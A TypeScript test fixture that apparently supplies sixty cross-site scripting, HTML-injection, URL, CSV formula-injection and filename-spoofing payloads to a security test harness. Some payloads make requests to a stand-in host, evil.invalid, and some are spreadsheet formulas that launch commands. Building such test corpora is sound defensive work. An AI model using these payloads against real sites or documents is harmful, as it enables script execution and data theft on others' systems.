// The corpus: sixty texts that have run as script, bent a page or become a formula somewhere. Each names the place where it would do so
// if it stood there as it is; the control puts it there and sees it run, so that none is here for show.

/** Where it bites: between tags, in an attribute, as an address, inside a script element, in a spreadsheet, or by its looks alone. */
export type Bites = "text" | "attribute" | "address" | "script" | "cell" | "looks";

/** What each runs: a dialog, a mark on the window, and a request to another host. */
const GO = "r()";
/** Stands in the page before any payload, as an attacker's own library would. */
export const LIBRARY = "globalThis.r = () => { globalThis.__ran = (globalThis.__ran ?? 0) + 1; alert(1); };";
/** Nothing answers there: a request is what is counted. */
export const ELSEWHERE = "evil.invalid";

const TEXT = [
  `<script>${GO}</script>`,
  `<ScRiPt >${GO}</sCrIpT >`,
  `<script\n>${GO}</script\n>`.replaceAll("\n", " "),
  `<script src=//${ELSEWHERE}/x></script>`,
  `<svg><script>${GO}</script></svg>`,
  `<svg><script>&#114;&#40;&#41;</script>`,
  `<img src=x: onerror=${GO}>`,
  `<img/src="x:"/onerror=${GO}>`,
  `<IMG """><script>${GO}</script>">`,
  `<image src=x: onerror=${GO}>`,
  `<svg onload=${GO}>`,
  `<svg/onload=${GO}//`,
  `<svg><animate onbegin=${GO} attributeName=x>`,
  `<svg><set onbegin=${GO} attributename=x>`,
  `<svg><style onload=${GO}></style></svg>`,
  `<style onload=${GO}></style>`,
  `<video><source onerror=${GO}></video>`,
  `<audio src=x: onerror=${GO}>`,
  `<input autofocus onfocus=${GO}>`,
  `<select autofocus onfocus=${GO}>`,
  `<a autofocus tabindex=1 onfocus=${GO}>`,
  `<details open ontoggle=${GO}>`,
  `<iframe srcdoc="<script>parent.r()</script>">`,
  `<iframe src="javascript:parent.${GO}">`,
  `<iframe onload=${GO}>`,
  `<object data=x: onerror=${GO}>`,
  `<object data="//${ELSEWHERE}/o"></object>`,
  `<link rel=stylesheet href=//${ELSEWHERE}/c>`,
  `<img src=//${ELSEWHERE}/i.gif>`,
  `<style>@import "//${ELSEWHERE}/s";</style>`,
  `<b style="background:url(//${ELSEWHERE}/b)">b`,
  `<table background=//${ELSEWHERE}/t>`,
  `<form><button formaction=javascript:${GO} autofocus>`,
  `<base href=//${ELSEWHERE}/><script src=x></script>`,
  `<meta http-equiv=refresh content="9;url=javascript:${GO}">`,
  `</title></textarea></style></noscript><script>${GO}</script>`,
  `--><script>${GO}</script><!--`,
  `<math><mtext></form><form><mglyph><style></math><img src=x: onerror=${GO}>`,
  `<%= 7 * 7 %><script>${GO}</script><%- it %>`,
  `{{constructor.constructor('${GO}')()}}<svg onload=${GO}>`,
];
const ATTRIBUTE = [
  `" autofocus onfocus=${GO} x="`,
  `' onfocus=${GO} autofocus x='`,
  `"><script>${GO}</script>`,
  `'><svg onload=${GO}>`,
  `x" tabindex=1 autofocus onfocus="${GO}`,
];
const ADDRESS = [
  `javascript:${GO}`,
  `JaVaScRiPt:${GO}`,
  `javascript://%0a${GO}`,
  `data:text/html,<script>${GO}</script>`,
  `//${ELSEWHERE}/x`,
];
const SCRIPT = [`</script><script>${GO}</script>`, `";${GO};//`, `\\";${GO};//`];
const CELL = [
  `=HYPERLINK("http://${ELSEWHERE}","x")`,
  `+cmd|' /C calc'!A0`,
  `a;=2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];
const LOOKS = [
  "\u202E\u2066gpj.exe\u2069 \u200F\u200B<b>",
  `＜script＞${GO}＜/script＞ ﹤img﹥ ʺ ＝1+1`,
  `<b>${"very long ".repeat(30)}`,
];

export type Payload = { n: number; text: string; bites: Bites };

export const PAYLOADS: readonly Payload[] = (
  [
    ["text", TEXT],
    ["attribute", ATTRIBUTE],
    ["address", ADDRESS],
    ["script", SCRIPT],
    ["cell", CELL],
    ["looks", LOOKS],
  ] as const
)
  .flatMap(([bites, texts]) => texts.map((text) => ({ text, bites })))
  .map((payload, n) => ({ n, ...payload }));

/** Refused at every door where a name goes in, so they stand apart from the corpus. */
export const REFUSED_NAMES = [
  "a\u0000<script>r()</script>",
  "a\u0008b",
  "\ud800<svg onload=r()>",
  "a\u2028b",
  "\u0085",
];

/** The payload as it goes into one field: with the mark by which it is found again, and within the limit of the field. */
export function textFor({ n, text }: Payload, field: string, max = 256): string {
  const mark = ` x${String(n).padStart(2, "0")}.${field}.`;
  return text.slice(0, max - mark.length) + mark;
}

/** "17.host" for each mark in a text. */
export const MARK = /x(\d\d\.[a-z]+)\./g;
